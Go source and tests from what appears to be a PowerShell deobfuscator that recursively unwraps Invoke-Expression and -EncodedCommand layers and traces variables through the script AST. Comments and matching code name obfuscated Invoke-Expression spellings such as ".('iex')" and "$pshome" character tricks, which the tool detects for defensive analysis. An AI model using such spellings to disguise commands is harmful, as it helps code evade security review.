// tryUnwrapPipeline handles multi-layer obfuscation at statement level
// (paper §III-B4): Invoke-Expression and powershell -EncodedCommand
// carrying a now-literal payload are replaced by the recursively
// deobfuscated payload. Payload commands embedded mid-pipeline (the
// paper's third position test, `<obf>|out-null`) are replaced in place,
// parenthesized so the surrounding pipeline stays intact.
func (s *astState) tryUnwrapPipeline(p *psast.Pipeline, ctx visitCtx) {
	if s.depth >= maxUnwrapDepth {
		return
	}
	// Form 1: <literal> | iex  (also | & 'iex', | . ('iex')).
	if len(p.Elements) == 2 {
		last, ok := p.Elements[1].(*psast.Command)
		if ok && s.isInvokeExpression(last) && len(positionalArgs(last)) == 0 {
			if lit, ok := s.literalOfNode(p.Elements[0]); ok {
				if code, okStr := lit.(string); okStr {
					s.replaceWithInner(p, code, ctx)
					return
				}
			}
		}
	}
	for _, elem := range p.Elements {
		cmd, ok := elem.(*psast.Command)
		if !ok {
			continue
		}
		code, found := s.payloadOf(cmd)
		if !found {
			continue
		}
		if len(p.Elements) == 1 {
			s.replaceWithInner(p, code, ctx)
			return
		}
		s.replaceElementWithInner(cmd, code)
	}
}

// payloadOf extracts the literal payload of an unwrappable command:
// iex '<code>' in any spelling, or powershell -enc/-command.
func (s *astState) payloadOf(cmd *psast.Command) (string, bool) {
	if s.isInvokeExpression(cmd) {
		args := positionalArgs(cmd)
		if len(args) == 1 {
			if lit, ok := s.literalOfNode(args[0]); ok {
				if code, okStr := lit.(string); okStr {
					return code, true
				}
			}
		}
		return "", false
	}
	if name, ok := s.commandLiteralName(cmd); ok {
		switch psinterp.NormalizeCommandName(name) {
		case "powershell", "pwsh":
			return s.extractPowerShellPayload(cmd)
		}
	}
	return "", false
}

// isInvokeExpression recognizes the common Invoke-Expression spellings
// the paper lists: iex, Invoke-Expression, &'iex', .('iex'),
// .($pshome[4]+...+'x') after recovery, 'xxx'|iex, etc.
func (s *astState) isInvokeExpression(cmd *psast.Command) bool {
	name, ok := s.commandLiteralName(cmd)
	if !ok {
		return false
	}
	return psinterp.NormalizeCommandName(name) == "invoke-expression"
}

// positionalArgs returns the non-parameter arguments of a command.
func positionalArgs(cmd *psast.Command) []psast.Node {
	var out []psast.Node
	for _, a := range cmd.Args {
		if _, isParam := a.(*psast.CommandParameter); isParam {
			continue
		}
		out = append(out, a)
	}
	return out
}

// extractPowerShellPayload pulls the script carried by a powershell.exe
// invocation: -EncodedCommand (with PowerShell's prefix parameter
// matching, §III-B4), -Command, or a trailing literal.
func (s *astState) extractPowerShellPayload(cmd *psast.Command) (string, bool) {
	args := cmd.Args
	for i := 0; i < len(args); i++ {
		cp, isParam := args[i].(*psast.CommandParameter)
		if !isParam {
			continue
		}
		var valueNode psast.Node
		if cp.Argument != nil {
			valueNode = cp.Argument
		} else if i+1 < len(args) {
			if _, nextIsParam := args[i+1].(*psast.CommandParameter); !nextIsParam {
				valueNode = args[i+1]
			}
		}
		if valueNode == nil {
			continue
		}
		value, ok := s.literalOfNode(valueNode)
		var payload string
		if ok {
			payload = psinterp.ToString(value)
		} else if bare, isBare := valueNode.(*psast.StringConstant); isBare && bare.Bare {
			payload = bare.Value
		} else {
			continue
		}
		switch {
		case psinterp.IsEncodedCommandParameter(cp.Name):
			decoded, err := psinterp.DecodeEncodedCommand(payload)
			if err != nil {
				continue
			}
			// Validity is checked on the trimmed payload — the exact text
			// deobPayload parses next — so its gate parse is a cache hit
			// instead of a second parser invocation per layer.
			trimmedDec := strings.TrimSpace(decoded)
			if trimmedDec == "" || !s.view.Valid(trimmedDec) {
				continue
			}
			return decoded, true
		case psinterp.IsCommandParameter(cp.Name):
			return payload, true
		}
	}
	// Trailing literal command string: powershell "write-host hi".
	pos := positionalArgs(cmd)
	if len(pos) == 1 {
		if v, ok := s.literalOfNode(pos[0]); ok {
			if code, isStr := v.(string); isStr {
				return code, true
			}
		}
	}
	return "", false
}

// replaceWithInner substitutes a whole statement pipeline with the
// recursively deobfuscated payload code, keeping the original when the
// payload does not parse. On an assignment RHS, a multi-statement
// payload is wrapped in $( ) so the assigned value stays the payload's
// output.
func (s *astState) replaceWithInner(n psast.Node, code string, ctx visitCtx) {
	inner, stmts, ok := s.deobPayload(code)
	if !ok {
		return
	}
	if ctx.assignRHS && stmts > 1 {
		inner = "$(" + inner + ")"
	}
	s.setRepl(n, inner)
	s.r.Stats.LayersUnwrapped++
}

// replaceElementWithInner substitutes one pipeline element with the
// parenthesized payload, only when the payload is a single statement
// (so the surrounding pipeline remains syntactically and semantically
// intact).
func (s *astState) replaceElementWithInner(n psast.Node, code string) {
	inner, stmts, ok := s.deobPayload(code)
	if !ok || stmts != 1 {
		return
	}
	s.setRepl(n, "("+inner+")")
	s.r.Stats.LayersUnwrapped++
}

// deobPayload recursively deobfuscates a payload and reports its
// statement count. The payload's bytes are charged against the run's
// shared output budget before any work: refusing to unwrap once the
// budget is gone is what keeps decompression-bomb chains (each layer
// expanding the last) bounded. The payload becomes a forked Document
// over the run's shared parse cache, so a nested layer identical to
// text seen elsewhere in the run parses exactly once.
func (s *astState) deobPayload(code string) (string, int, bool) {
	trimmed := strings.TrimSpace(code)
	if trimmed == "" {
		return "", 0, false
	}
	// Any pending deferred piece evaluations are drained first: they may
	// charge the shared envelope, and the sequential order charges them
	// before the payload's bytes.
	s.flushAllJobs()
	if s.r.Env.Violated() || s.r.Env.ChargeOutput(len(trimmed)) != nil {
		return "", 0, false
	}
	// No up-front validation parse: an unparseable payload falls out of
	// the nested fixpoint unchanged (the token phase's ValidOrRevert
	// refuses to publish invalid rewrites, the ast phase cannot even
	// start on one) and the exit parse below rejects it — same decision,
	// one full-document parse fewer per unwrapped layer.
	endNested := s.pc.BeginNested()
	inner := s.r.deobfuscateLayer(s.pc, s.doc.Fork(trimmed), s.depth+1)
	endNested()
	root, err := viewParse(s.view, inner)
	if err != nil || root.Body == nil {
		return "", 0, false
	}
	return inner, len(root.Body.Statements), true
}

// deobfuscateLayer runs token parsing and AST recovery on a nested
// payload layer (multi-layer obfuscation), without rename/reformat,
// which only apply to the final script. It drives the same phase
// implementations as the registered passes, on a forked Document; its
// work (time, reverts, cache traffic) is attributed to the enclosing
// ast pass in the trace.
func (r *run) deobfuscateLayer(pc *pipeline.PassContext, doc *pipeline.Document, depth int) string {
	for iter := 0; iter < r.Opts.MaxIterations; iter++ {
		if r.Env.Violated() {
			break
		}
		prev := doc.Text()
		if !r.Opts.DisableTokenPhase {
			r.tokenPhase(pc, doc)
		}
		if !r.Opts.DisableASTPhase {
			r.astPhase(pc, doc, depth)
		}
		next := doc.Text()
		if next == prev {
			break
		}
		// Growth-only charge, mirroring the top-level fixpoint loop;
		// deobPayload already charged this layer's full size on entry.
		if r.Env.ChargeOutput(len(next)-len(prev)) != nil {
			doc.SetText(prev)
			break
		}
	}
	return doc.Text()
}
