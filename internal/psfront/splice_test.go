package psfront

import (
	"fmt"
	"math/rand"
	"reflect"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

func spliceView() *pipeline.View {
	return pipeline.NewCache(0, 0).View(PS{})
}

// applyEditsNaive is the ground-truth text transform: left-to-right
// replacement with no statement mapping or artifact synthesis.
func applyEditsNaive(text string, edits []pipeline.Edit) string {
	var b strings.Builder
	cursor := 0
	for _, e := range edits {
		b.WriteString(text[cursor:e.Start])
		b.WriteString(e.New)
		cursor = e.End
	}
	b.WriteString(text[cursor:])
	return b.String()
}

// checkSpliceGroundTruth applies edits via Splice and asserts the
// synthesized artifacts — the token stream and AST Splice published
// into the view — are deep-equal to a fresh full retokenize/reparse of
// the spliced text. This is the correctness bar for the incremental
// path: downstream passes must not be able to tell a splice from a
// full reparse.
func checkSpliceGroundTruth(t *testing.T, src string, edits []pipeline.Edit) {
	t.Helper()
	view := spliceView()
	// Warm the view the way the ast phase does before building edits.
	if _, err := viewParse(view, src); err != nil {
		t.Fatalf("source does not parse: %v", err)
	}
	if _, err := viewTokenize(view, src); err != nil {
		t.Fatalf("source does not tokenize: %v", err)
	}

	newText, ok := PS{}.Splice(view, src, edits)
	if !ok {
		t.Fatalf("Splice rejected a spliceable batch\nsrc: %q\nedits: %+v", src, edits)
	}
	if want := applyEditsNaive(src, edits); newText != want {
		t.Fatalf("spliced text = %q, want %q", newText, want)
	}

	// The view now answers with the synthesized artifacts; compare them
	// against a cold retokenize/reparse of the same text.
	synthToks, err := viewTokenize(view, newText)
	if err != nil {
		t.Fatalf("synthesized tokens: %v", err)
	}
	freshToks, err := pstoken.Tokenize(newText)
	if err != nil {
		t.Fatalf("fresh tokenize: %v", err)
	}
	if !reflect.DeepEqual(synthToks, freshToks) {
		t.Errorf("synthesized token stream diverges from full retokenize\ntext: %q\nsynth: %+v\nfresh: %+v",
			newText, synthToks, freshToks)
	}

	synthAST, err := viewParse(view, newText)
	if err != nil {
		t.Fatalf("synthesized AST: %v", err)
	}
	freshAST, err := psparser.Parse(newText)
	if err != nil {
		t.Fatalf("fresh parse: %v", err)
	}
	if !reflect.DeepEqual(synthAST, freshAST) {
		t.Errorf("synthesized AST diverges from full reparse\ntext: %q\nsynth: %#v\nfresh: %#v",
			newText, synthAST, freshAST)
	}
}

// findSpan locates a unique substring and returns its extent as an edit.
func findSpan(t *testing.T, src, old, new string) pipeline.Edit {
	t.Helper()
	i := strings.Index(src, old)
	if i < 0 || strings.Index(src[i+1:], old) >= 0 {
		t.Fatalf("substring %q not unique in %q", old, src)
	}
	return pipeline.Edit{Start: i, End: i + len(old), New: new}
}

func TestSpliceMatchesFullReparse(t *testing.T) {
	t.Run("single_statement", func(t *testing.T) {
		src := "$a = 'x' + 'y'\n"
		checkSpliceGroundTruth(t, src, []pipeline.Edit{findSpan(t, src, "'x' + 'y'", "'xy'")})
	})
	t.Run("growth_and_shrink_across_statements", func(t *testing.T) {
		src := "$a = 'aa' + 'bb'\nWrite-Output $a\n$b = [char]104 + [char]105\n"
		checkSpliceGroundTruth(t, src, []pipeline.Edit{
			findSpan(t, src, "'aa' + 'bb'", "'aabb'"),
			findSpan(t, src, "[char]104 + [char]105", "'hi'"),
		})
	})
	t.Run("multiple_edits_one_statement", func(t *testing.T) {
		src := "Write-Output ('a'+'b') ('c'+'d')\n"
		checkSpliceGroundTruth(t, src, []pipeline.Edit{
			findSpan(t, src, "'a'+'b'", "'ab'"),
			findSpan(t, src, "'c'+'d'", "'cd'"),
		})
	})
	t.Run("last_statement_no_trailing_newline", func(t *testing.T) {
		src := "$x = 1\n$y = 'p' + 'q'"
		checkSpliceGroundTruth(t, src, []pipeline.Edit{findSpan(t, src, "'p' + 'q'", "'pq'")})
	})
	t.Run("untouched_statements_shift", func(t *testing.T) {
		src := "$a = 'one' + 'two'\n$b = 2\n$c = 3\nWrite-Output $b $c\n"
		checkSpliceGroundTruth(t, src, []pipeline.Edit{findSpan(t, src, "'one' + 'two'", "'onetwo'")})
	})
}

// TestSpliceRejects pins the fallback conditions: anything the locality
// argument does not cover must report ok=false so the caller takes the
// full-reparse path instead of risking a divergent artifact.
func TestSpliceRejects(t *testing.T) {
	view := spliceView()
	src := "$a = 'x' + 'y'\n$b = 'z'\n"
	if _, ok := (PS{}).Splice(view, src, nil); ok {
		t.Error("empty edit batch accepted")
	}
	if _, ok := (PS{}).Splice(view, src, []pipeline.Edit{
		{Start: 5, End: 10, New: "'q'"},
		{Start: 8, End: 12, New: "'r'"},
	}); ok {
		t.Error("overlapping edits accepted")
	}
	if _, ok := (PS{}).Splice(view, src, []pipeline.Edit{
		{Start: 5, End: len(src) + 3, New: "'q'"},
	}); ok {
		t.Error("out-of-bounds edit accepted")
	}
	// Crossing the boundary between statement 0 and statement 1.
	nl := strings.Index(src, "\n")
	if _, ok := (PS{}).Splice(view, src, []pipeline.Edit{
		{Start: nl - 2, End: nl + 3, New: "'q'"},
	}); ok {
		t.Error("statement-boundary-crossing edit accepted")
	}
	// Semicolon-joined statements share a line, so neither is
	// line-isolated and the slice lexing argument does not apply.
	joined := "$a = 'x' + 'y'; $b = 'z'\n"
	e := findSpan(t, joined, "'x' + 'y'", "'xy'")
	if _, ok := (PS{}).Splice(spliceView(), joined, []pipeline.Edit{e}); ok {
		t.Error("edit inside a semicolon-joined statement accepted")
	}
}

// TestSpliceSeededSmoke generates deterministic pseudo-random documents
// and edit batches, and holds every accepted splice to the full
// retokenize/reparse ground truth. The generator only emits line-
// isolated single-line statements, so Splice must accept every batch;
// a rejection here is a lost fast path, not just a correctness miss.
func TestSpliceSeededSmoke(t *testing.T) {
	rng := rand.New(rand.NewSource(20220627))
	letters := "abcdefghij"
	randLit := func() string {
		n := 1 + rng.Intn(6)
		var b strings.Builder
		for i := 0; i < n; i++ {
			b.WriteByte(letters[rng.Intn(len(letters))])
		}
		return "'" + b.String() + "'"
	}
	for round := 0; round < 50; round++ {
		nStmts := 2 + rng.Intn(6)
		var b strings.Builder
		type span struct{ start, end int }
		var spans []span // extent of each statement's replaceable expression
		for i := 0; i < nStmts; i++ {
			switch rng.Intn(3) {
			case 0:
				b.WriteString(fmt.Sprintf("$v%d = ", i))
				start := b.Len()
				b.WriteString(randLit() + " + " + randLit())
				spans = append(spans, span{start, b.Len()})
			case 1:
				b.WriteString("Write-Output (")
				start := b.Len()
				b.WriteString(randLit() + "+" + randLit() + "+" + randLit())
				spans = append(spans, span{start, b.Len()})
				b.WriteString(")")
			default:
				b.WriteString(fmt.Sprintf("$u%d = %d", i, rng.Intn(1000)))
				spans = append(spans, span{-1, -1}) // not edited this round
			}
			b.WriteString("\n")
		}
		src := b.String()
		var edits []pipeline.Edit
		for _, s := range spans {
			if s.start < 0 || rng.Intn(2) == 0 {
				continue
			}
			edits = append(edits, pipeline.Edit{Start: s.start, End: s.end, New: randLit()})
		}
		if len(edits) == 0 {
			continue
		}
		t.Run(fmt.Sprintf("round_%02d", round), func(t *testing.T) {
			checkSpliceGroundTruth(t, src, edits)
		})
	}
}
