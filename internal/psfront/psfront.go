// Package psfront packages the paper's PowerShell deobfuscation phases
// as a registered language frontend.
//
//  1. Token parsing (§III-A): lexical recovery of L1 obfuscation —
//     ticking, random case, aliases — rewriting tokens in reverse order.
//  2. Recovery based on AST (§III-B): recoverable nodes are evaluated
//     with the embedded interpreter under variable tracing (Algorithm 1),
//     results are spliced strictly in place, and multi-layer
//     Invoke-Expression / powershell -EncodedCommand wrappers are
//     unwrapped until a fixpoint.
//  3. Rename and reformat (§III-C): statistically random identifiers
//     become var{N}/func{N} and whitespace is normalized.
//
// The language-neutral driver (internal/core) resolves this frontend
// through the registry under the name "powershell" and runs the phases
// as passes over a pipeline.Document. Importing this package (directly
// or via internal/frontends) registers the frontend.
package psfront

import (
	"context"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
	"github.com/invoke-deobfuscation/invokedeob/internal/psnames"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

func init() {
	frontend.Register(PS{})
}

// PS is the PowerShell frontend: full tokenizer, parser, embedded
// interpreter, and the paper's three phases as passes.
type PS struct {
	frontend.Base
}

// Name is the canonical language name.
func (PS) Name() string { return "powershell" }

// Tokenize produces the PowerShell token stream ([]pstoken.Token).
func (PS) Tokenize(src string) (any, error) { return pstoken.Tokenize(src) }

// Parse produces the PowerShell AST (*psast.ScriptBlock).
func (PS) Parse(src string) (any, error) { return psparser.Parse(src) }

// Evaluate runs a snippet in a fresh bounded interpreter with the given
// variable preloads.
func (PS) Evaluate(ctx context.Context, snippet string, vars map[string]any, budget frontend.EvalBudget) (frontend.EvalResult, error) {
	in := psinterp.New(psinterp.Options{
		MaxSteps:      budget.MaxSteps,
		StrictVars:    true,
		MaxAllocBytes: budget.MaxAllocBytes,
		Ctx:           ctx,
	})
	for name, v := range vars {
		in.SetVar(name, v)
	}
	sb, err := psparser.Parse(snippet)
	if err != nil {
		return frontend.EvalResult{}, err
	}
	out, err := in.EvalScript(sb)
	if err != nil {
		return frontend.EvalResult{}, err
	}
	p := in.Purity()
	return frontend.EvalResult{
		Values:   out,
		Console:  in.Console(),
		Pure:     p.Pure,
		ReadVars: p.ReadVars,
	}, nil
}

// Render renders a recovered value as PowerShell source, only for
// string- and number-typed results (paper §III-B2).
func (PS) Render(v any) (string, bool) { return renderLiteral(v) }

// CopyValue deep-copies an interpreter value for the shared eval cache.
func (PS) CopyValue(v any) (any, bool) { return psinterp.CopyValue(v) }

// ValueSize estimates an interpreter value's retained bytes.
func (PS) ValueSize(v any) int { return psinterp.ValueSize(v) }

// DefaultBlocklist is the paper's irrelevant-command blocklist.
func (PS) DefaultBlocklist() map[string]bool { return psnames.DefaultBlocklist() }

// Capabilities: full evaluation and recoverable-node support.
func (PS) Capabilities() frontend.Capabilities {
	return frontend.Capabilities{Evaluate: true, RecoverableNodes: true}
}

// LayerPasses returns the passes of the fixpoint loop (phases 1–2) in
// order, honoring the ablation switches.
func (PS) LayerPasses(fr *frontend.Run) []pipeline.Pass {
	r := &run{fr}
	var passes []pipeline.Pass
	if !fr.Opts.DisableTokenPhase {
		passes = append(passes, &tokenPass{r})
	}
	if !fr.Opts.DisableASTPhase {
		passes = append(passes, &astPass{r})
	}
	return passes
}

// FinalPasses returns the once-only finishing passes (phase 3).
func (PS) FinalPasses(fr *frontend.Run) []pipeline.Pass {
	r := &run{fr}
	var passes []pipeline.Pass
	if !fr.Opts.DisableRename {
		passes = append(passes, &renamePass{r})
	}
	if !fr.Opts.DisableReformat {
		passes = append(passes, &reformatPass{r})
	}
	return passes
}

// run wraps the driver's per-run state for the phase implementations;
// the embedded Run promotes Opts, Blocklist, Stats and Env.
type run struct {
	*frontend.Run
}

// The four phases as registered passes. Each is a thin adapter from
// the pipeline.Pass interface onto the phase implementation; nested
// payload layers reuse the phase implementations directly on forked
// Documents (their work is attributed to the enclosing ast pass).
type (
	tokenPass    struct{ r *run }
	astPass      struct{ r *run }
	renamePass   struct{ r *run }
	reformatPass struct{ r *run }
)

func (p *tokenPass) Name() string { return "token" }
func (p *tokenPass) Run(pc *pipeline.PassContext) error {
	p.r.tokenPhase(pc, pc.Doc)
	return nil
}

func (p *astPass) Name() string { return "ast" }
func (p *astPass) Run(pc *pipeline.PassContext) error {
	p.r.astPhase(pc, pc.Doc, 0)
	return nil
}

func (p *renamePass) Name() string { return "rename" }
func (p *renamePass) Run(pc *pipeline.PassContext) error {
	p.r.renamePhase(pc, pc.Doc)
	return nil
}

func (p *reformatPass) Name() string { return "reformat" }
func (p *reformatPass) Run(pc *pipeline.PassContext) error {
	p.r.reformatPhase(pc, pc.Doc)
	return nil
}

// The phase implementations predate the language-neutral artifact
// types; these helpers recover the concrete PowerShell artifacts from
// the cache's opaque values.

// docAST returns the Document's cached AST as a *psast.ScriptBlock.
func docAST(doc *pipeline.Document) (*psast.ScriptBlock, error) {
	v, err := doc.AST()
	if err != nil {
		return nil, err
	}
	return v.(*psast.ScriptBlock), nil
}

// docTokens returns the Document's cached token stream.
func docTokens(doc *pipeline.Document) ([]pstoken.Token, error) {
	v, err := doc.Tokens()
	if err != nil {
		return nil, err
	}
	return v.([]pstoken.Token), nil
}

// viewParse parses src through the run's cache view.
func viewParse(view *pipeline.View, src string) (*psast.ScriptBlock, error) {
	v, err := view.Parse(src)
	if err != nil {
		return nil, err
	}
	return v.(*psast.ScriptBlock), nil
}

// viewTokenize tokenizes src through the run's cache view.
func viewTokenize(view *pipeline.View, src string) ([]pstoken.Token, error) {
	v, err := view.Tokenize(src)
	if err != nil {
		return nil, err
	}
	return v.([]pstoken.Token), nil
}
