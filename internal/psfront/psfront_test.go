package psfront

import (
	"strings"
	"testing"
	"testing/quick"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
)

// deob runs the full driver over src with this frontend (the package's
// init registration makes "powershell" resolvable).
func deob(t *testing.T, src string) string {
	t.Helper()
	res, err := core.New(core.Options{Lang: "powershell"}).Deobfuscate(src)
	if err != nil {
		t.Fatalf("Deobfuscate(%q): %v", src, err)
	}
	return res.Script
}

func TestSemanticsPreservedForCleanScripts(t *testing.T) {
	// Deobfuscating an already-clean script must not change behaviour
	// or structure materially.
	clean := []string{
		"Write-Host hello",
		"$total = 0\nforeach ($n in 1..10) { $total += $n }\nWrite-Output $total",
		"function Get-Sum($a, $b) { $a + $b }\nGet-Sum 1 2",
		"if (Test-Path 'C:\\x') { Remove-Item 'C:\\x' } else { Write-Host 'missing' }",
	}
	for _, src := range clean {
		got := deob(t, src)
		before := runConsoleOutputs(t, src)
		after := runConsoleOutputs(t, got)
		if before != after {
			t.Errorf("output changed for %q:\nbefore %q\nafter  %q\nscript %q", src, before, after, got)
		}
	}
}

// runConsoleOutputs executes a script and returns console plus pipeline
// output, ignoring errors (scripts may use denied side effects).
func runConsoleOutputs(t *testing.T, src string) string {
	t.Helper()
	in := psinterp.New(psinterp.Options{})
	out, _ := in.EvalSnippet(src)
	return in.Console() + "|" + psinterp.ToString(psinterp.Unwrap(out))
}

func TestIsRandomName(t *testing.T) {
	random := []string{"xkcdqz", "bqqzrtk4x", "KJQWXZb0", "sdfs" + "xdjmd" + "lsffs"}
	// The paper's vowel band [32%,42%] is narrow; these names sit
	// inside it (as realistic multi-name concatenations do).
	normal := []string{"resulturl", "filepath", "clientbase", "remoteclient"}
	for _, s := range random {
		if !IsRandomName(s) {
			t.Errorf("IsRandomName(%q) = false", s)
		}
	}
	for _, s := range normal {
		if IsRandomName(s) {
			t.Errorf("IsRandomName(%q) = true", s)
		}
	}
	// Low letter ratio is random regardless of vowels.
	if !IsRandomName("a1_2__34$%") {
		t.Error("low-letter name not random")
	}
}

// TestQuoteSingleRoundTrip: quoting then evaluating yields the original
// string for arbitrary content.
func TestQuoteSingleRoundTrip(t *testing.T) {
	f := func(s string) bool {
		if strings.ContainsAny(s, "\x00") {
			return true
		}
		lit := QuoteSingle(s)
		in := psinterp.New(psinterp.Options{})
		out, err := in.EvalSnippet(lit)
		if err != nil {
			// Some exotic unicode may not tokenize; acceptable as long
			// as common content round-trips.
			return !isPrintableASCII(s)
		}
		return psinterp.ToString(psinterp.Unwrap(out)) == s
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func isPrintableASCII(s string) bool {
	for _, r := range s {
		if r < 32 || r > 126 {
			return false
		}
	}
	return true
}

func TestLiteralValue(t *testing.T) {
	tests := []struct {
		src  string
		want any
		ok   bool
	}{
		{"'str'", "str", true},
		{"('wrapped')", "wrapped", true},
		{"42", int64(42), true},
		{"$var", nil, false},
		{"'a'+'b'", nil, false},
		{"bareword", nil, false},
		{"", nil, false},
	}
	for _, tt := range tests {
		got, ok := literalValue(tt.src)
		if ok != tt.ok || (ok && got != tt.want) {
			t.Errorf("literalValue(%q) = %v,%v want %v,%v", tt.src, got, ok, tt.want, tt.ok)
		}
	}
}
