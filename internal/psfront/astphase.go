package psfront

import (
	"sort"
	"strconv"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// varEntry is one symbol-table record of the variable-tracing pass
// (paper Algorithm 1): the traced value and the scope path where the
// assignment happened.
type varEntry struct {
	value any
	scope []int
}

// visitCtx carries the traversal context of Algorithm 1.
type visitCtx struct {
	scope       []int
	inLoop      bool
	inCond      bool
	inFunc      bool
	assignLHS   bool
	assignRHS   bool
	isStatement bool
}

type astState struct {
	r   *run
	pc  *pipeline.PassContext
	doc *pipeline.Document
	// view is the run's parse-cache view; literal detection, payload
	// parsing and piece evaluation all draw their parses from it.
	view    *pipeline.View
	src     string
	depth   int
	repl    map[psast.Node]string
	vars    map[string]varEntry
	scopeID int
	// safeFuncs holds pure user-defined functions whose calls may be
	// recovered when the FunctionTracing extension is enabled.
	safeFuncs map[string]*psast.FunctionDefinition
	// prelude is the memoized definition prelude prepended to every
	// evaluated piece when safeFuncs is non-empty. It is invariant
	// within a pass run (safeFuncs is collected once, up front), so it
	// is built once — sorted by function name for determinism — instead
	// of re-concatenated with a fresh strings.Builder on every
	// evaluation. Its text is part of the evaluated snippet and thus of
	// the evaluation-cache key: two layers defining different decoders
	// can never share a cached result.
	prelude string
	// replMin/replMax bound the source extents of all recorded
	// replacements. textOf uses them to return a node's raw source
	// slice — zero reconstruction, zero allocation — whenever no
	// replacement can possibly fall inside the node. On typical layers
	// only a handful of nodes are rewritten, so this prunes almost the
	// entire post-order splice.
	replMin, replMax int
}

// setRepl records a replacement for n and widens the replacement
// extent bounds used by textOf's fast path.
func (s *astState) setRepl(n psast.Node, text string) {
	ext := n.Extent()
	if len(s.repl) == 0 || ext.Start < s.replMin {
		s.replMin = ext.Start
	}
	if ext.End > s.replMax {
		s.replMax = ext.End
	}
	s.repl[n] = text
}

// astPhase runs recovery based on AST over one script layer under the
// run's execution envelope. doc may be the run's main Document or a
// fork holding a nested payload layer; either way tokens, ASTs and
// validity checks come from the shared parse cache.
func (r *run) astPhase(pc *pipeline.PassContext, doc *pipeline.Document, depth int) {
	root, err := docAST(doc)
	if err != nil {
		return
	}
	s := &astState{
		r:         r,
		pc:        pc,
		doc:       doc,
		view:      doc.View(),
		src:       doc.Text(),
		depth:     depth,
		repl:      make(map[psast.Node]string),
		vars:      make(map[string]varEntry),
		safeFuncs: make(map[string]*psast.FunctionDefinition),
	}
	if r.Opts.FunctionTracing {
		s.collectPureFunctions(root)
		s.buildPrelude()
	}
	s.visit(root, visitCtx{scope: []int{0}})
	out := s.textOf(root)
	doc.SetText(pc.ValidOrRevert(s.view, out, s.src))
}

// enterScope derives a child scope path.
func (s *astState) enterScope(ctx visitCtx) visitCtx {
	s.scopeID++
	child := ctx
	child.scope = append(append([]int(nil), ctx.scope...), s.scopeID)
	return child
}

// scopeVisible reports whether a variable recorded at `recorded` is
// visible from `current` (recorded path is a prefix of the current
// path).
func scopeVisible(recorded, current []int) bool {
	if len(recorded) > len(current) {
		return false
	}
	for i, id := range recorded {
		if current[i] != id {
			return false
		}
	}
	return true
}

// visit performs the post-order traversal of Algorithm 1: children
// first (with scope/loop/conditional context updates), then node
// processing.
func (s *astState) visit(n psast.Node, ctx visitCtx) {
	if n == nil {
		return
	}
	switch x := n.(type) {
	case *psast.ScriptBlock:
		inner := ctx
		if x.Params != nil {
			s.visit(x.Params, inner)
		}
		s.visit(x.Body, inner)
	case *psast.NamedBlock:
		inner := s.enterScope(ctx)
		for _, st := range x.Statements {
			stCtx := inner
			stCtx.isStatement = true
			s.visit(st, stCtx)
		}
	case *psast.StatementBlock:
		inner := s.enterScope(ctx)
		for _, st := range x.Statements {
			stCtx := inner
			stCtx.isStatement = true
			s.visit(st, stCtx)
		}
	case *psast.If:
		inner := s.enterScope(ctx)
		for _, clause := range x.Clauses {
			s.visit(clause.Cond, inner)
			body := inner
			body.inCond = true
			s.visit(clause.Body, body)
		}
		if x.Else != nil {
			body := inner
			body.inCond = true
			s.visit(x.Else, body)
		}
	case *psast.While:
		inner := s.enterScope(ctx)
		loop := inner
		loop.inLoop = true
		s.visit(x.Cond, loop)
		s.visit(x.Body, loop)
	case *psast.DoLoop:
		inner := s.enterScope(ctx)
		loop := inner
		loop.inLoop = true
		s.visit(x.Body, loop)
		s.visit(x.Cond, loop)
	case *psast.For:
		inner := s.enterScope(ctx)
		loop := inner
		loop.inLoop = true
		s.visit(x.Init, loop)
		s.visit(x.Cond, loop)
		s.visit(x.Iter, loop)
		s.visit(x.Body, loop)
	case *psast.ForEach:
		inner := s.enterScope(ctx)
		loop := inner
		loop.inLoop = true
		lhs := loop
		lhs.assignLHS = true
		s.visit(x.Variable, lhs)
		s.visit(x.Collection, inner)
		s.visit(x.Body, loop)
	case *psast.Switch:
		inner := s.enterScope(ctx)
		s.visit(x.Cond, inner)
		body := inner
		body.inCond = true
		for _, c := range x.Cases {
			s.visit(c.Pattern, body)
			s.visit(c.Body, body)
		}
		if x.Default != nil {
			s.visit(x.Default, body)
		}
	case *psast.FunctionDefinition:
		inner := s.enterScope(ctx)
		inner.inFunc = true
		for _, p := range x.Params {
			s.visit(p, inner)
		}
		s.visit(x.Body, inner)
	case *psast.Try:
		inner := s.enterScope(ctx)
		body := inner
		body.inCond = true
		s.visit(x.Body, body)
		for _, c := range x.Catches {
			s.visit(c, body)
		}
		if x.Finally != nil {
			s.visit(x.Finally, body)
		}
	case *psast.Assignment:
		lhs := ctx
		lhs.assignLHS = true
		lhs.isStatement = false
		s.visit(x.Left, lhs)
		rhs := ctx
		rhs.isStatement = true
		rhs.assignRHS = true
		s.visit(x.Right, rhs)
		s.processAssignment(x, ctx)
		return
	case *psast.ExpandableString:
		// Parts are not spliced textually (quoting differs inside
		// strings); the whole string is recovered via its parent
		// recoverable node instead.
		return
	default:
		childCtx := ctx
		childCtx.isStatement = false
		childCtx.assignLHS = false
		// A pipeline that is itself a statement passes statement-ness to
		// unwrapping; its children are expressions.
		for _, c := range n.Children() {
			s.visit(c, childCtx)
		}
	}
	s.process(n, ctx)
}

// process applies Algorithm 1's per-node actions after the children are
// done: variable inlining, recoverable-piece recovery and multi-layer
// unwrapping. Once the envelope is violated all remaining per-node work
// is skipped, so the traversal winds down in O(nodes) instead of the
// O(nodes x subtree) cost of safety analysis and recovery.
